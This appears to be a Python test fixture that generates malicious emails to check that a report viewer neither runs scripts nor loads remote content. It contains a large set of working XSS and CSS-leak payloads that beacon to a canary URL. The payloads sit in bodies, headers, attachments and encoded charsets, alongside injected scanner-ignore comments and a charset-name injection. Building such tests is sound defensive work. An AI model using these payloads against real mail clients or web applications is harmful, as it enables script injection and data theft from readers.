"""Mails that try to run a script or to fetch something from whoever looks at them in a report.

Each tries one trick at one place. A script that ran would set `pwned` in every window it reaches
and knock at the canary; anything fetched knocks at the canary too.
"""
import base64
import quopri

NAMES = "From: {name} <petra.kurz@firma.example>\r\n"


def tricks(canary):
    """Things to write where words are expected."""
    run = f"try{{top.pwned=1}}catch(e){{}};window.pwned=1;new Image().src='{canary}/ran'"
    return [
        f"<script>{run}</script>",
        f"</script><script>{run}</script>",
        f"\"><script>{run}</script>",
        f"'><script>{run}</script>",
        f"<img src=x onerror=\"{run}\">",
        f"<img src='{canary}/img'>",
        f"<svg onload=\"{run}\">",
        f"<svg><script>{run}</script></svg>",
        f"<svg><script href='{canary}/svg.js'/></svg>",
        f"<svg><animate onbegin=\"{run}\" attributeName=x dur=1s>",
        f"<svg><image href='{canary}/svgimage'/></svg>",
        f"<svg><use href='{canary}/use.svg#a'/></svg>",
        f"<math><mtext><img src=x onerror=\"{run}\"></mtext></math>",
        f"<iframe src='{canary}/frame'></iframe>",
        f"<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
        f"</iframe><script>{run}</script>",
        f"<object data='{canary}/object'></object>",
        f"<embed src='{canary}/embed'>",
        f"<link rel=stylesheet href='{canary}/style.css'>",
        f"<link rel=prefetch href='{canary}/prefetch'>",
        f"<link rel=preload as=script href='{canary}/preload'>",
        f"<base href='{canary}/'><img src=relative>",
        f"<meta http-equiv=refresh content='0;url={canary}/refresh'>",
        f"<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\"><script>{run}</script>",
        f"<style>@import '{canary}/import.css';</style>",
        f"<style>body{{background:url({canary}/background)}}</style>",
        f"<style>@font-face{{font-family:x;src:url({canary}/font)}}*{{font-family:x}}</style>",
        f"</style><script>{run}</script>",
        f"<style>li{{list-style-image:url({canary}/list)}}input[value^=a]{{background:url({canary}/leak)}}</style>",
        f"<div style=\"background-image:url('{canary}/inline')\">x</div>",
        f"<div style=\"width:expression({run})\">x</div>",
        f"<video poster='{canary}/poster' src='{canary}/video' autoplay></video>",
        f"<audio src='{canary}/audio' autoplay onplay=\"{run}\"></audio>",
        f"<picture><source srcset='{canary}/srcset'><img src='{canary}/picture'></picture>",
        f"<table background='{canary}/table'><tr><td>x</td></tr></table>",
        f"<body onload=\"{run}\" background='{canary}/body'>",
        f"<input autofocus onfocus=\"{run}\">",
        f"<details open ontoggle=\"{run}\">x</details>",
        f"<form action='{canary}/form'><button autofocus>x</button></form><script>document.forms[0].submit()</script>",
        f"<a href=\"javascript:{run}\" ping='{canary}/ping'>zeitnah</a>",
        f"<marquee onstart=\"{run}\">x</marquee>",
        f"<template><script>{run}</script></template>",
        f"<noscript><p title=\"</noscript><img src=x onerror={run}>\"></noscript>",
        f"<!--><script>{run}</script-->",
        f"<![CDATA[<script>{run}</script>]]>",
        f"<xmp><script>{run}</script></xmp>",
        f"<plaintext><script>{run}</script>",
        f"<textarea></textarea><script>{run}</script>",
        f"<title></title><script>{run}</script>",
        f"&lt;script&gt;{run}&lt;/script&gt;",
        f"{{{{constructor.constructor('{run}')()}}}}",
    ]


def head(subject="Ihre Rechnung 4711", name="Petra Kurz", more=""):
    return NAMES.format(name=name) + f"To: Kim Lang <kim.lang@example.org>\r\nSubject: {subject}\r\n{more}"


def word(text, charset="utf-8"):
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset, 'replace')).decode()}?="


def html_mail(body, more=""):
    return (head(more=more) + "Content-Type: text/html; charset=utf-8\r\n\r\n" + body).encode()


def plain_mail(body, **fields):
    return (head(**fields) + "Content-Type: text/plain; charset=utf-8\r\n\r\n" + body).encode()


BODY = "Guten Tag Frau Lang,\r\n\r\nwir melden uns zeitnah.\r\n"


def in_charset(trick):
    """The same trick in charsets a reader could mistake for harmless text."""
    text = f"<p>zeitnah {trick}</p>"
    utf7 = text.replace("+", "+-").replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-")
    yield "utf-7", utf7.encode()
    yield "utf-16", text.encode("utf-16")
    yield "utf-16le", text.encode("utf-16le")
    yield "utf-32", text.encode("utf-32")
    yield "iso-2022-jp", b"\x1b$B" + text.encode() + b"\x1b(B" + text.encode()
    yield "iso-2022-kr", b"\x0e" + text.encode() + b"\x0f"
    yield "hz-gb-2312", b"~{" + text.encode() + b"~}"
    yield "ibm037", text.encode("cp037", "replace")
    yield "utf-8", text.replace("<", "\xc0\xbc").encode("latin-1", "replace")
    yield "x-unknown\"><script>top.pwned=1</script>", text.encode()
    yield "us-ascii", text.replace("<", "\xbc").replace(">", "\xbe").encode("latin-1", "replace")
    yield "windows-1252", b"\x00" + text.encode() + b"\x00"


def mails(canary):
    """Pairs of a name and a mail."""
    for i, trick in enumerate(tricks(canary)):
        yield f"html-{i}", html_mail(f"<p>Guten Tag, wir melden uns zeitnah.</p>{trick}<p>zeitnah</p>")
        yield f"quoted-{i}", html_mail(f"<p title='{trick}' alt=\"{trick}\">zeitnah</p><img alt=\"{trick}\" src=x>")
        yield f"plain-{i}", plain_mail(f"{BODY}{trick} zeitnah {trick}\r\n", subject=trick)
        yield f"names-{i}", plain_mail(BODY, subject=word(trick), name=word(trick), more=f"Reply-To: {word(trick)} <a@b.example>\r\nX-Warmline-Ignore: amb/vague-time: {trick}\r\nMessage-ID: <{trick}>\r\n")
    first = tricks(canary)[:6]
    for i, trick in enumerate(first):
        name = trick.replace('"', "'")
        files = (
            head(subject="Die Rechnung im Anhang")
            + 'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n' + BODY
            + f'\r\n--b\r\nContent-Type: image/svg+xml; name="{name}"\r\nContent-Disposition: attachment; filename="{name}"\r\n\r\n'
            + f"<svg xmlns='http://www.w3.org/2000/svg'><script>top.pwned=1</script></svg>\r\n--b--\r\n"
        )
        yield f"file-{i}", files.encode()
        yield f"link-{i}", html_mail(f"<p>Guten Tag, <a href=\"data:text/html,{trick}\">{trick.replace('<', '&lt;')}</a> zeitnah <a href=\"vbscript:{name}\">hier klicken</a></p>")
        yield f"hidden-{i}", html_mail(f"<div style='display:none'>{trick} zeitnah</div><p>zeitnah</p><!-- warmline-ignore amb/vague-time: {trick} -->")
        encoded = quopri.encodestring(f"<p>zeitnah</p>{trick}".encode()).decode()
        yield f"packed-{i}", html_mail(encoded, "Content-Transfer-Encoding: quoted-printable\r\n")
        twin = (
            head() + 'Content-Type: multipart/alternative; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n' + f"{trick} 40 Euro zeitnah"
            + "\r\n--b\r\nContent-Type: text/html\r\n\r\n" + f"<p>50 Euro {trick}</p>\r\n--b--\r\n"
        )
        yield f"twin-{i}", twin.encode()
    for i, trick in enumerate(first[:4]):
        for j, (charset, body) in enumerate(in_charset(trick)):
            yield f"charset-{i}-{j}", head().encode() + f'Content-Type: text/html; charset="{charset}"\r\n\r\n'.encode() + body
